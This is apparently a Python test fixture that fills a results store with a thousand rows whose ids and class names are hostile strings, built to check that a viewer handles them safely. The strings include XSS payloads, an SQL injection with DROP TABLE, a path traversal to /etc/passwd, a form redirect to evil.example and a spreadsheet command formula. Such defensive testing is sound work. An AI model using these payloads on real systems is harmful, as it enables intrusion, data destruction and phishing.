"""Writes a store of a thousand rows whose ids, labels and class names are what an attacker would write there."""

from __future__ import annotations

from dataclasses import asdict, replace
from pathlib import Path

import numpy as np
from heatlas.pipeline.shards import plan_shards
from heatlas.pipeline.store.committed_shards import row_totals
from heatlas.pipeline.store.parquet_sink import ParquetSink
from heatlas.pipeline.store.run_file import claim_run
from heatlas.pipeline.store.success_file import write_success
from heatlas.workers.samples import Row, Sample
from PIL import Image

from .reported_store import LAYOUT, PREPROCESS, looking

COUNT = 1000
PAYLOADS = (
    "<img src=x onerror=complain({0})>",
    "<svg/onload=complain({0})>",
    "\"'><script>complain({0})</script>",
    "</bdi></span><iframe srcdoc='<script>parent.complain({0})</script>'>",
    "<a href=javascript:complain({0}) autofocus onfocus=complain({0})>",
    "javascript:complain({0})//",
    "${{complain({0})}}`",
    "{{{{constructor.constructor('complain({0})')()}}}}",
    "&lt;script&gt;complain({0})&lt;/script&gt;",
    "&#60;img src=x onerror=complain({0})&#62;",
    "' OR 1=1; DROP TABLE items; -- {0}",
    "../../../etc/passwd%00{0}",
    "<style>*{{display:none}}</style>{0}",
    "<base href=//evil.example/{0}>",
    "<!--{0}--><math><mtext></form><form action=//evil.example>",
    "__proto__{0}",
    "constructor{0}",
    "\u202e{0}gpj.exe",
    "a\u0000b{0}",
    "\x1b]0;{0}\x07\x1b[2J",
    "line\nbreak\r{0}\ttab",
    "\u2066{0}\u2069\u200f",
    "=cmd|' /C calc'!A{0}",
    "{0}" + "W" * 300,
    "\ud7ff\U0001f469\u200d\U0001f4bb{0}\u0301\u0301",
)
PROPER = frozenset(range(17)) | {22}
"""Payloads without a character that is shown as its code, and short enough to be shown whole."""


def payload(number: int, what: str) -> str:
    """The same every time; `what` keeps ids and class names apart."""
    return PAYLOADS[number % len(PAYLOADS)].format(f"{number}{what}")


def write_hostile(out: Path, folder: Path) -> Path:
    """Every row has an id and a label of its own and is taken for the next class; all show one image."""
    folder.mkdir(parents=True)
    image = folder / "image.png"
    Image.new("RGB", (30, 20), (90, 120, 40)).save(image)
    names = [payload(number, "n") for number in range(COUNT)]
    layout = replace(LAYOUT, metadata={**LAYOUT.metadata, "class_names": names})
    plan = plan_shards(COUNT, COUNT)
    claim_run(str(out), {"plan": {"samples": COUNT, "shards": len(plan), "digest": "d"}, "preprocess": asdict(PREPROCESS), "method": "sise"},
              {"model": payload(3, "m"), "data": str(folder), "seed": 0})  # fmt: skip
    map_ = looking(True).astype(np.float32)
    rows = [
        Row(Sample(payload(number, "i"), str(image), number), "ok", height=20, width=30, prediction=(number + 1) % COUNT,
            target=(number + 1) % COUNT, confidence=0.5, map=map_, metrics={"ebpg": number / COUNT, "drop_pct": 1.0, "border_share": 0.1, "n_components": 1.0},
            mask_counts=(3,), n_forwards=5, seconds=0.1, device="cpu")
        for number in range(COUNT)
    ]  # fmt: skip
    assert ParquetSink(str(out), layout).commit(plan[0], rows)
    write_success(str(out), row_totals(str(out)))
    return out
